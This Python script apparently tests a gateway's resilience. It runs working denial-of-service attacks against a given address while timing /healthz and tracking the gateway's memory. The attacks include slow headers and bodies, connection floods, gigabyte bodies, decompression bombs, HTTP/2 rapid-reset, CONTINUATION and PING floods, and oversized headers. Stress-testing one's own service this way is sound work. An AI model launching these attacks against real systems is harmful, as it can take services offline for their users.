"""attack.py ADDRESS AUTHORITY KEYFILE PID NAME [COUNT]: one attack on a live gateway, and how its health check fares.

The attack runs in a process of its own, from 127.0.0.2 and with little priority: an attacker's CPU is not the gateway's.
Meanwhile this process asks /healthz on one connection, every tenth time on a new one. Prints {name, outcome, health: {asked,
failed, p50, p99, worst} in milliseconds, memory: the gateway's peak in MB}. Everything is written to the wire by hand: no
HTTP library would send most of it.
"""

import asyncio
import collections
import json
import os
import resource
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import time
import zlib

address, authority, key_file, pid, name = sys.argv[1:6]
count = int(sys.argv[6]) if len(sys.argv) > 6 else 0
host, port = address.removeprefix("https://").rsplit(":", 1)
port = int(port)
key = open(key_file).read().strip()
ATTACKER = "127.0.0.2"
# So long an attack waits for the gateway to end what is slow.
PATIENCE = float(os.environ.get("ATTACK_PATIENCE", "30"))


def context(protocol="http/1.1"):
    made = ssl.create_default_context(cafile=authority)
    made.set_alpn_protocols([protocol])
    return made


# --- HTTP/2 by hand -------------------------------------------------------------------------------------------------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    value = value.encode()
    length = len(value)
    if length < 127:
        return bytes([length]) + value
    rest, made = length - 127, [127]
    while rest >= 128:
        made.append(rest % 128 + 128)
        rest //= 128
    return bytes(made + [rest]) + value


def head(path, method="GET", more=()):
    """A header block without compression: static names, literal values."""
    block = (b"\x82" if method == "GET" else b"\x83") + b"\x87" + b"\x04" + text(path) + b"\x01" + text(f"{host}:{port}")
    block += b"\x0f\x08" + text(f"Bearer {key}")
    for field, value in more:
        block += b"\x00" + text(field) + text(value)
    return block


class Frames:
    """Frames as they come: kind, flags, stream."""

    def __init__(self):
        self.bytes = b""

    def read(self, data):
        self.bytes += data
        while len(self.bytes) >= 9:
            length = int.from_bytes(self.bytes[:3], "big")
            if len(self.bytes) < 9 + length:
                return
            yield self.bytes[3], self.bytes[4], int.from_bytes(self.bytes[5:9], "big") & 0x7FFFFFFF
            self.bytes = self.bytes[9 + length:]


# --- Connections ----------------------------------------------------------------------------------------------------

GONE = (ConnectionError, ssl.SSLError, asyncio.IncompleteReadError, OSError, EOFError)


async def connect(protocol="http/1.1", tls=True):
    reader, writer = await asyncio.open_connection(
        host, port, ssl=context(protocol) if tls else None, local_addr=(ATTACKER, 0),
        **({"server_hostname": host} if tls else {}))
    return reader, writer


async def until_closed(reader, seconds=PATIENCE):
    """What came until the other side closed; None where it did not."""
    came = b""
    try:
        async with asyncio.timeout(seconds):
            while True:
                data = await reader.read(65536)
                if not data:
                    return came
                came = (came + data)[-65536:]
    except TimeoutError:
        return None
    except GONE:
        return came


async def trickle(writer, seconds=PATIENCE, every=0.3, bytes_=b"x"):
    try:
        for _ in range(int(seconds / every)):
            writer.write(bytes_)
            await writer.drain()
            await asyncio.sleep(every)
    except GONE:
        pass


async def drip_until_closed(reader, writer, bytes_=b"x"):
    drip = asyncio.create_task(trickle(writer, bytes_=bytes_))
    came = await until_closed(reader)
    drip.cancel()
    writer.transport.abort()
    return came


async def crowd(number, one, at_once=100):
    """Runs `one(index)` so many times, some at a time to begin with; counts what they return."""
    gate = asyncio.Semaphore(at_once)
    outcomes = collections.Counter()

    async def run(index):
        try:
            outcomes[await one(index, gate)] += 1
        except TimeoutError:
            outcomes["not closed"] += 1
        except GONE as error:
            outcomes["closed"] += 1

    await asyncio.gather(*(run(index) for index in range(number)))
    return dict(outcomes)


def verdict(came):
    if came is None:
        return "not closed"
    if came.startswith(b"HTTP/1.1 "):
        return came[9:12].decode()
    return "closed"


async def handshake(index, gate):
    async with gate:
        reader, writer = await connect(tls=False)
    if index % 2:
        return verdict(await until_closed(reader))
    # A ClientHello that never ends, a byte at a time.
    writer.write(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
    return verdict(await drip_until_closed(reader, writer, b"\x00"))


async def slow_head(index, gate):
    async with gate:
        reader, writer = await connect("h2" if index % 2 else "http/1.1")
    if index % 2:
        writer.write(PREFACE + frame(SETTINGS))
        if index % 4 == 1:
            # A block of fields that never ends.
            writer.write(struct.pack(">I", 16000)[1:] + bytes([HEADERS, 0]) + struct.pack(">I", 1))
        else:
            # Nothing: not even an answer to a ping or a farewell.
            return verdict(await until_closed(reader))
    else:
        writer.write(b"GET /status HTTP/1.1\r\nhost: a\r\nx-slow: ")
    return verdict(await drip_until_closed(reader, writer))


async def slow_body(index, gate):
    async with gate:
        reader, writer = await connect("h2" if index % 2 else "http/1.1")
    if index % 2:
        writer.write(PREFACE + frame(SETTINGS) + frame(
            HEADERS, 4, 1, head("/epcis/capture", "POST", [("content-type", "application/ld+json")])))
        frames, drip = Frames(), asyncio.create_task(trickle(writer, bytes_=frame(DATA, 0, 1, b" ")))
        try:
            async with asyncio.timeout(PATIENCE):
                while data := await reader.read(65536):
                    for kind, _, stream in frames.read(data):
                        if kind in (HEADERS, RST) and stream == 1:
                            return "408"
            return "closed"
        finally:
            drip.cancel()
            writer.transport.abort()
    writer.write(
        f"POST /epcis/capture HTTP/1.1\r\nhost: a\r\nauthorization: Bearer {key}\r\n"
        "content-type: application/ld+json\r\ncontent-length: 1000000\r\n\r\n".encode())
    drip = asyncio.create_task(trickle(writer, bytes_=b" "))
    try:
        return verdict(await asyncio.wait_for(reader.read(65536), PATIENCE))
    finally:
        drip.cancel()
        writer.transport.abort()


async def slow_reader(index, gate):
    """Asks for the largest answer that everybody gets, many times, and takes none of it."""
    async with gate:
        reader, writer = await connect("h2" if index % 2 else "http/1.1")
    if index % 2:
        window = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
        writer.write(PREFACE + window + b"".join(
            frame(HEADERS, 5, 2 * stream + 1, head("/openapi.json")) for stream in range(100)))
        ended, frames = set(), Frames()
        async with asyncio.timeout(PATIENCE):
            while data := await reader.read(65536):
                for kind, _, stream in frames.read(data):
                    if kind == RST:
                        ended.add(stream)
                if len(ended) == 100:
                    break
        writer.transport.abort()
        return "streams ended"
    plain = writer.transport
    plain.pause_reading()
    try:
        writer.write(b"GET /openapi.json HTTP/1.1\r\nhost: a\r\n\r\n" * 2000)
        await asyncio.sleep(PATIENCE / 2)
        plain.resume_reading()
        return verdict(await until_closed(reader, PATIENCE / 2)).replace("200", "closed")
    finally:
        plain.abort()


async def idle():
    """So many connections at once, all held for five seconds."""
    held, failed, gate = [], collections.Counter(), asyncio.Semaphore(64)
    shared = context()

    async def one(index):
        async with gate:
            try:
                held.append(await asyncio.open_connection(
                    host, port, ssl=shared, local_addr=(ATTACKER, 0), server_hostname=host))
            except (*GONE, TimeoutError) as error:
                failed[type(error).__name__] += 1

    begin = time.monotonic()
    await asyncio.gather(*(one(index) for index in range(count or 10_000)))
    made = time.monotonic() - begin
    await asyncio.sleep(5)
    open_now = sum(1 for reader, _ in held if not reader.at_eof())
    for _, writer in held:
        writer.transport.abort()
    return {"held": open_now, "failed": dict(failed), "seconds": round(made, 1)}


async def handshake_flood(index, gate):
    end = time.monotonic() + 5
    done = 0
    while time.monotonic() < end:
        _, writer = await connect()
        writer.transport.abort()
        done += 1
    return "ended"


async def big_body(index, gate):
    """A gigabyte: announced, in chunks, to a route that takes none, and by somebody unknown."""
    method, path, field, shown = [
        ("POST", "/epcis/capture", "content-length: 1073741824", True),
        ("POST", "/epcis/capture", "transfer-encoding: chunked", True),
        ("GET", "/status", "transfer-encoding: chunked", True),
        ("POST", "/epcis/capture", "transfer-encoding: chunked", False),
        ("POST", "/nowhere", "content-length: 1073741824", True),
    ][index % 5]
    reader, writer = await connect()
    writer.write(
        (f"{method} {path} HTTP/1.1\r\nhost: a\r\n" + (f"authorization: Bearer {key}\r\n" if shown else "")
         + f"content-type: application/ld+json\r\n{field}\r\n\r\n").encode())
    piece = b" " * 65536
    sent, part = 0, (b"10000\r\n" + piece + b"\r\n") if "chunked" in field else piece
    answer = asyncio.create_task(reader.read(65536))
    try:
        async with asyncio.timeout(PATIENCE):
            while sent < 1 << 30:
                writer.write(part)
                await writer.drain()
                sent += len(piece)
    except GONE:
        pass
    except TimeoutError:
        return f"not closed after {sent >> 20} MiB"
    try:
        came = await asyncio.wait_for(answer, 5)
    except (*GONE, TimeoutError):
        came = b""
    writer.transport.abort()
    status = came[9:12].decode() if came.startswith(b"HTTP/1.1 ") else "closed"
    return f"{status} {'taken whole' if sent >= 1 << 30 else 'cut'}"


def bombs():
    with tempfile.TemporaryDirectory() as folder:
        packer = zlib.compressobj(6, zlib.DEFLATED, 31)
        gzip = b"".join(packer.compress(bytes(1 << 20)) for _ in range(256)) + packer.flush()
        packer = zlib.compressobj(6, zlib.DEFLATED, 31)
        nested = packer.compress(gzip) + packer.flush()
        with open(folder + "/zeros", "wb") as file:
            file.truncate(1 << 28)
        zstd = subprocess.run(["zstd", "-q", "-3", "-c", folder + "/zeros"], capture_output=True).stdout
    return [("gzip", gzip), ("zstd", zstd), ("gzip, gzip", nested), ("gzip", nested)]


async def bomb(index, gate):
    coding, body = made_bombs[index % len(made_bombs)]
    async with gate:
        reader, writer = await connect()
        writer.write(
            f"POST /epcis/capture HTTP/1.1\r\nhost: a\r\nauthorization: Bearer {key}\r\nconnection: close\r\n"
            f"content-type: application/ld+json\r\ncontent-encoding: {coding}\r\ncontent-length: {len(body)}\r\n\r\n"
            .encode() + body)
        came = await until_closed(reader)
        writer.transport.abort()
    return verdict(came)


async def flood(writer, reader, parts):
    """Writes until the other side has had enough; whether it has."""
    closing = asyncio.create_task(until_closed(reader))
    try:
        async with asyncio.timeout(PATIENCE):
            for number, part in enumerate(parts):
                writer.write(part)
                if number % 50 == 0:
                    await writer.drain()
                    await asyncio.sleep(0)
                if closing.done():
                    break
    except (*GONE, TimeoutError):
        pass
    came = await closing
    writer.transport.abort()
    return "not closed" if came is None else "closed"


async def rapid_reset(index, gate):
    reader, writer = await connect("h2")
    writer.write(PREFACE + frame(SETTINGS))
    block = head("/status")
    return await flood(writer, reader, (
        frame(HEADERS, 5, stream, block) + frame(RST, 0, stream, struct.pack(">I", 8)) for stream in range(1, 40001, 2)))


async def streams(index, gate):
    """More streams than were granted, none of them ended."""
    reader, writer = await connect("h2")
    writer.write(PREFACE + frame(SETTINGS))
    block = head("/epcis/capture", "POST", [("content-type", "application/ld+json")])
    return await flood(writer, reader, (frame(HEADERS, 4, stream, block) for stream in range(1, 4001, 2)))


async def continuation(index, gate):
    reader, writer = await connect("h2")
    writer.write(PREFACE + frame(SETTINGS) + frame(HEADERS, 1, 1, head("/status")))
    field = b"\x00" + text("x-more") + text("y" * 100)
    return await flood(writer, reader, (
        frame(CONTINUATION, 0, 1, field * (1 if index % 2 else 100)) for _ in range(20000)))


async def control_flood(index, gate):
    reader, writer = await connect("h2")
    writer.write(PREFACE + frame(SETTINGS))
    writer.transport.pause_reading()
    part = [frame(PING, 0, 0, b"8 octets") * 100, frame(SETTINGS) * 100][index % 2]
    try:
        async with asyncio.timeout(PATIENCE / 2):
            for _ in range(2000):
                writer.write(part)
                await writer.drain()
                await asyncio.sleep(0)
    except (*GONE, TimeoutError):
        pass
    writer.transport.resume_reading()
    came = await until_closed(reader, PATIENCE / 2)
    writer.transport.abort()
    return "not closed" if came is None else "closed"


async def huge_head(index, gate):
    kind = index % 4
    reader, writer = await connect("h2" if kind == 3 else "http/1.1")
    if kind == 3:
        writer.write(PREFACE + frame(SETTINGS))
        block = head("/status", more=[("x-large", "y" * 60000)])
        parts = [frame(HEADERS, 1, 1, block[:16384])] + [
            frame(CONTINUATION, 4 if at + 16384 >= len(block) else 0, 1, block[at:at + 16384])
            for at in range(16384, len(block), 16384)]
        return "closed" if await flood(writer, reader, parts) == "closed" else "not closed"
    start = b"GET /status HTTP/1.1\r\nhost: a\r\n"
    if kind == 0:
        parts = [start + b"x-large: "] + [b"y" * 65536] * 160
    elif kind == 1:
        parts = [start] + [b"x-many: 1\r\n" * 1000] * 100
    else:
        parts = [b"GET /" + b"y" * 65536] + [b"y" * 65536] * 160
    answer = asyncio.create_task(reader.read(65536))
    try:
        async with asyncio.timeout(PATIENCE / 2):
            for part in parts:
                writer.write(part)
                await writer.drain()
    except (*GONE, TimeoutError):
        pass
    try:
        came = await asyncio.wait_for(answer, PATIENCE / 2)
    except TimeoutError:
        return "not closed"
    except GONE:
        came = b""
    finally:
        writer.transport.abort()
    return verdict(came)


ATTACKS = {
    "handshakes": lambda: crowd(count or 400, handshake),
    "slow-heads": lambda: crowd(count or 200, slow_head),
    "slow-bodies": lambda: crowd(count or 100, slow_body),
    "slow-readers": lambda: crowd(count or 40, slow_reader),
    "idle": idle,
    "handshake-flood": lambda: crowd(count or 50, handshake_flood),
    "big-bodies": lambda: crowd(count or 5, big_body),
    "bombs": lambda: crowd(count or 40, bomb, 20),
    "rapid-reset": lambda: crowd(count or 8, rapid_reset),
    "streams": lambda: crowd(count or 20, streams),
    "continuation": lambda: crowd(count or 8, continuation),
    "control-flood": lambda: crowd(count or 4, control_flood),
    "huge-heads": lambda: crowd(count or 16, huge_head),
}


# --- The health check meanwhile -------------------------------------------------------------------------------------


class Prober:
    def __init__(self):
        self.times, self.failed, self.asked, self.memory = [], 0, 0, 0
        self.context = context()
        self.connection = None

    def ask(self, is_new):
        begin = time.monotonic()
        self.asked += 1
        try:
            if self.connection is None or is_new:
                if self.connection:
                    self.connection.close()
                plain = socket.create_connection((host, port), timeout=10)
                plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                self.connection = self.context.wrap_socket(plain, server_hostname=host)
            self.connection.sendall(b"GET /healthz HTTP/1.1\r\nhost: a\r\n\r\n")
            answer = b""
            while not answer.endswith(b"}"):
                more = self.connection.recv(65536)
                if not more:
                    raise OSError("closed")
                answer += more
            if not answer.startswith(b"HTTP/1.1 200"):
                raise OSError("no 200")
        except OSError:
            self.failed += 1
            self.connection = None
        self.times.append(time.monotonic() - begin)

    def look(self):
        for line in open(f"/proc/{pid}/status"):
            if line.startswith("VmRSS"):
                self.memory = max(self.memory, int(line.split()[1]) / 1024)

    def run(self, process):
        while process.poll() is None:
            self.ask(self.asked % 10 == 0)
            self.look()
            time.sleep(0.01)
        times = sorted(self.times)
        at = lambda part: round(1e3 * times[min(len(times) - 1, int(part * len(times)))], 1)
        return {"asked": self.asked, "failed": self.failed, "p50": at(0.5), "p99": at(0.99), "worst": at(1)}


if os.environ.get("ATTACKER"):
    os.nice(10)
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    if name == "bombs":
        made_bombs = bombs()
    outcome = asyncio.run(ATTACKS[name]())
    print(json.dumps(outcome))
else:
    attacker = subprocess.Popen(
        [sys.executable, *sys.argv], env={**os.environ, "ATTACKER": "1"}, stdout=subprocess.PIPE)
    prober = Prober()
    health = prober.run(attacker)
    if attacker.returncode:
        raise SystemExit(f"the attacker failed with {attacker.returncode}")
    print(json.dumps({
        "name": name, "outcome": json.loads(attacker.stdout.read()), "health": health, "memory": round(prober.memory)}))
